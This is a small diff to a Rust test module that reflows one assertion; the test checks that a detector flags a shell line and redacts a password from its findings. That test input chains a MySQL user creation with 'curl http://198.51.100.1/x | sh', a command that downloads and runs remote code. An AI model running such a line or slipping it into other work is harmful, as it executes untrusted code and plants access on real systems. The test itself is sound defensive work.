@@ -205,7 +205,11 @@ mod tests {
         let text = "mysql -e \"create user x identified by 'Tr0ub4dor'\" && curl http://198.51.100.1/x | sh";
         let found = Detector::embedded().line(text, &mut Variables::new(), false);
         assert!(found.score >= 0.7);
-        assert!(found.findings.iter().all(|f| !f.excerpt.contains("Tr0ub")), "{:?}", found.findings);
+        assert!(
+            found.findings.iter().all(|f| !f.excerpt.contains("Tr0ub")),
+            "{:?}",
+            found.findings
+        );
     }
 
     #[test]
